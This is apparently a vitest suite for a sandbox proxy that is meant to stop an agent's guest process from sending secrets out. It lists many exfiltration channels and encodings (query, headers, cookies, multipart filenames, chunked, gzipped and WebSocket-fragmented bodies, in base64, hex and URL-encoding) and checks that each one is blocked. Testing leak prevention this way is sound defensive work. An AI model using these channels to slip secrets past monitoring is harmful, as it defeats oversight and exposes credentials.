import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { whyNoEngine } from '../support/engine.ts';
import type { SiteEvent } from '../support/outside-site.ts';
import { runProbe } from '../support/probe.ts';
import { createSealedBottle, type SealedBottle } from '../support/sealed-bottle.ts';

interface Fetched {
  readonly outcome: 'answered' | 'error';
  readonly status: number;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
  readonly code: string;
  readonly ms: number;
}

interface Request {
  readonly url: string;
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
  readonly chunks?: readonly string[];
  readonly gzip?: true;
}

/** What the guest was answered, and what of it a site got. */
interface Told {
  readonly fetched: Fetched;
  readonly arrived: readonly SiteEvent[];
}

interface Leak {
  readonly name: string;
  readonly toRequest: (secret: string, site: string) => Request;
}

const encodings: readonly { readonly name: string; readonly encode: (secret: string) => string }[] = [
  { name: 'as it is', encode: (secret) => secret },
  { name: 'in base64', encode: (secret) => Buffer.from(secret).toString('base64') },
  { name: 'in base64 for URLs', encode: (secret) => Buffer.from(secret).toString('base64url') },
  {
    name: 'in base64, off by one byte',
    encode: (secret) => Buffer.from(`x${secret}`).toString('base64'),
  },
  { name: 'in hex', encode: (secret) => Buffer.from(secret).toString('hex') },
  { name: 'in upper-case hex', encode: (secret) => Buffer.from(secret).toString('hex').toUpperCase() },
  { name: 'URL-encoded', encode: (secret) => encodeURIComponent(secret) },
  {
    name: 'URL-encoded byte by byte',
    encode: (secret) => Buffer.from(secret).toString('hex').replaceAll(/../g, '%$&'),
  },
];

const post = (url: string, body: string, type = 'text/plain'): Request => ({
  url,
  method: 'POST',
  headers: { 'content-type': type },
  body,
});

const leaks: readonly Leak[] = [
  ...encodings.flatMap(({ name, encode }): readonly Leak[] => [
    { name: `in a body, ${name}`, toRequest: (secret, site) => post(site, `before ${encode(secret)} after`) },
    {
      name: `in the query, ${name}`,
      toRequest: (secret, site) => ({ url: `${site}?q=${toUrlPart(encode(secret))}` }),
    },
    {
      name: `in a header, ${name}`,
      toRequest: (secret, site) => ({ url: site, headers: { 'x-note': encode(secret) } }),
    },
  ]),
  { name: 'in the path', toRequest: (secret, site) => ({ url: `${site}/${encodeURIComponent(secret)}` }) },
  {
    name: 'in a cookie',
    toRequest: (secret, site) => ({ url: site, headers: { cookie: `session=${secret}` } }),
  },
  { name: 'in User-Agent', toRequest: (secret, site) => ({ url: site, headers: { 'user-agent': secret } }) },
  {
    name: 'in Authorization as Basic',
    toRequest: (secret, site) => ({
      url: site,
      headers: { authorization: `Basic ${Buffer.from(`user:${secret}`).toString('base64')}` },
    }),
  },
  {
    name: 'as a key of JSON',
    toRequest: (secret, site) => post(site, JSON.stringify({ [secret]: 1 }), 'application/json'),
  },
  {
    name: 'as the file name of a form',
    toRequest: (secret, site) =>
      post(
        site,
        `--b\r\nContent-Disposition: form-data; name="f"; filename="${secret}"\r\n\r\nx\r\n--b--\r\n`,
        'multipart/form-data; boundary=b',
      ),
  },
  {
    name: 'split over chunks of a body',
    toRequest: (secret, site) => ({
      url: site,
      method: 'POST',
      chunks: ['before ', ...secret, ' after'],
    }),
  },
  {
    name: 'at the end of a large body',
    toRequest: (secret, site) => post(site, `${'lorem ipsum '.repeat(40_000)}${secret}`),
  },
  {
    name: 'in a body that is compressed',
    toRequest: (secret, site) => ({ ...post(site, `compressed ${secret}`), gzip: true }),
  },
  {
    name: 'in a body that claims to be an image',
    toRequest: (secret, site) => post(site, `\u0089PNG ${secret}`, 'image/png'),
  },
];

/** As a URL may hold it: what is encoded already stays as it is. */
function toUrlPart(text: string): string {
  return text.includes('%') ? text : encodeURIComponent(text);
}

/** Bodies and headers that look alarming and are harmless: all of them must pass. */
const harmless: readonly Leak[] = [
  ...encodings.map(
    ({ name, encode }): Leak => ({
      name: `another secret, ${name}`,
      toRequest: (_secret, site) => post(site, encode('planted/other+0123456789abcdef=&')),
    }),
  ),
  { name: 'a UUID', toRequest: (_secret, site) => post(site, '7d444840-9dc0-11d1-b245-5ffdce74fad2') },
  {
    name: 'half of a secret',
    toRequest: (secret, site) => post(site, secret.slice(0, Math.floor(secret.length / 2))),
  },
  {
    name: 'random bytes as a data URI',
    toRequest: (_secret, site) =>
      post(site, `data:image/png;base64,${gzipSync('x'.repeat(5000)).toString('base64')}`),
  },
  { name: 'a compressed body', toRequest: (_secret, site) => ({ ...post(site, 'nothing'), gzip: true }) },
];

const reason = await whyNoEngine();

describe('secrets', () => {
  beforeEach(({ skip }) => skip(reason !== null, reason ?? ''));

  const stack = new AsyncDisposableStack();
  let bottle: SealedBottle;

  beforeAll(async () => {
    if (reason !== null) return;
    bottle = stack.use(await createSealedBottle('secrets'));
  });
  afterAll(() => stack.disposeAsync());

  async function ask(request: Request): Promise<Fetched> {
    const [fetched] = await runProbe<readonly Fetched[]>(bottle.asAgent, 'fetch', { requests: [request] });
    if (fetched === undefined) throw new Error('the probe printed nothing');
    return fetched;
  }

  /** All tellings of one list in one go, in the guest one after the other. */
  async function tellAll(list: readonly Leak[], secret: string): Promise<readonly Told[]> {
    const marked = list.map((leak, index) => ({
      leak,
      mark: `/told-${secret.slice(0, 4)}-${list.length}-${index}-end`,
    }));
    const requests = marked.map(({ leak, mark }) => leak.toRequest(secret, `https://open.test${mark}`));
    const fetched = await runProbe<readonly Fetched[]>(bottle.asAgent, 'fetch', { requests });
    const events = await bottle.siteEvents();
    return marked.map(({ mark }, index) => {
      const own = fetched[index];
      if (own === undefined) throw new Error('the probe did not print an answer for each request');
      return { fetched: own, arrived: events.filter((event) => event.path?.includes(mark)) };
    });
  }

  describe('what only looks like one', () => {
    let told: readonly Told[];
    beforeAll(async () => {
      if (reason !== null) return;
      told = await tellAll(harmless, bottle.secrets.planted);
    });

    it.each(harmless.map(({ name }, index) => ({ name, index })))('passes: $name', ({ index }) => {
      expect(told[index]?.fetched).toMatchObject({ outcome: 'answered', status: 200 });
      expect(told[index]?.arrived).toHaveLength(1);
    });
  });

  describe.each(['planted', 'token'] as const)('the %s secret', (which) => {
    let told: readonly Told[];
    beforeAll(async () => {
      if (reason !== null) return;
      told = await tellAll(leaks, bottle.secrets[which]);
    });

    it.each(leaks.map((leak, index) => ({ ...leak, index })))(
      'does not leave $name',
      ({ name, toRequest, index }) => {
        const secret = bottle.secrets[which];
        const { fetched, arrived } = told[index] ?? {};
        expect(fetched).toMatchObject({ outcome: 'answered', status: 403 });
        // A body that cannot be read is refused for that alone.
        const layer = name.includes('compressed') ? /^(dlp|http)$/ : /^dlp$/;
        expect(fetched?.headers['x-bottle-block']).toMatch(layer);
        expect(fetched?.body).not.toContain(secret);
        expect(fetched?.ms).toBeLessThan(1000);
        // Of a body that streams, a beginning may have gone; the whole never has.
        expect(JSON.stringify(arrived)).not.toContain(JSON.stringify(secret).slice(1, -1));
        const whole = toRequest(secret, '').body?.length;
        expect(arrived?.filter((event) => event.bodyBytes === whole)).toEqual([]);
      },
    );
  });

  it('is in no log', async () => {
    const log = await bottle.bundleLog();
    // The control: the refusals are there.
    expect(log).toContain('dlp');
    for (const secret of [bottle.secrets.planted, bottle.secrets.token]) {
      for (const { encode } of encodings) expect(log).not.toContain(encode(secret));
    }
  });

  const routes = [
    { host: 'header.test', where: 'header', sent: { 'x-site-token': 'placeholder' } },
    { host: 'bearer.test', where: 'header', sent: { authorization: 'Bearer placeholder' } },
    { host: 'basic.test', where: 'header', sent: { authorization: 'Basic cGxhY2Vob2xkZXI6eA==' } },
    { host: 'query.test', where: 'query', sent: { authorization: 'Bearer placeholder' } },
  ] as const;

  it.each(routes)(
    'puts the credential of $host in place of what the guest sent',
    async ({ host, where, sent }) => {
      const fetched = await ask({ url: `https://${host}/v1/things?site_token=placeholder`, headers: sent });
      expect(fetched).toMatchObject({ outcome: 'answered', status: 200 });
      const arrived = (await bottle.siteEvents()).filter((event) => event.host === host);
      expect(arrived.map((event) => event.credential)).toEqual([where]);
      const { authorization, 'x-site-token': token } = arrived[0]?.headers ?? {};
      expect(`${String(authorization)} ${String(token)}`).not.toMatch(/placeholder|cGxhY2Vob2xkZXI6eA/);
      // The site echoes what it got; the guest sees none of it.
      const { token: real } = bottle.secrets;
      expect(fetched.body).toContain('"headers"');
      for (const { encode } of encodings) expect(fetched.body).not.toContain(encode(real));
      expect(fetched.body).not.toContain(Buffer.from(`bottle:${real}`).toString('base64'));
    },
  );

  it('gives no credential to a host whose route has none, nor over plain HTTP', async () => {
    const curl = ['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '-H', 'x-site-token: placeholder'];
    const urls = ['https://open.test/without', 'http://clear.test/without', 'http://header.test/without'];
    const answers = await Promise.all(urls.map((url) => bottle.asAgent([...curl, url], '')));
    expect(answers.map(({ stdout }) => stdout)).toEqual(['200', '200', '403']);
    const arrived = (await bottle.siteEvents()).filter((event) => event.path === '/without');
    expect(arrived.map((event) => event.credential)).toEqual(['absent', 'absent']);
  });

  it('does not let a credential follow a redirect to another host', async () => {
    const fetched = await ask({ url: 'https://header.test/redirect?to=https://open.test/landed' });
    expect(fetched).toMatchObject({ status: 302, headers: { location: 'https://open.test/landed' } });
    await ask({ url: fetched.headers.location ?? '' });
    const landed = (await bottle.siteEvents()).filter((event) => event.path === '/landed');
    expect(landed.map((event) => event.credential)).toEqual(['absent']);
  });

  it('refuses a known secret in a WebSocket message, whole or in fragments, and passes another text', async () => {
    const { planted } = bottle.secrets;
    const say = (messages: readonly (readonly string[])[], path: string) =>
      runProbe<{ status: number; texts: string[]; closeCode: number | null; outcome: string }>(
        bottle.asAgent,
        'websocket',
        { proxy: bottle.proxy, connect: 'open.test:443', path, messages },
      );
    const control = await say([['hello'], ['in ', 'two ', 'parts']], '/socket');
    expect(control).toMatchObject({ status: 101, outcome: 'answered' });
    expect(control.texts.join('')).toBe('helloin two parts');
    for (const message of [[`x ${planted} y`], [planted.slice(0, 9), planted.slice(9)]]) {
      const refused = await say([message], '/socket');
      expect(refused.status).toBe(101);
      expect(refused.outcome).not.toBe('deadline');
      expect(refused.texts.join('')).not.toContain(planted);
      expect(refused.closeCode ?? 1008).toBe(1008);
    }
    const frames = (await bottle.siteEvents()).filter((event) => event.event === 'frame');
    expect(frames.map((event) => event.text).join('')).not.toContain(planted);
    expect(frames.map((event) => event.text)).toContain('hello');
  });
});
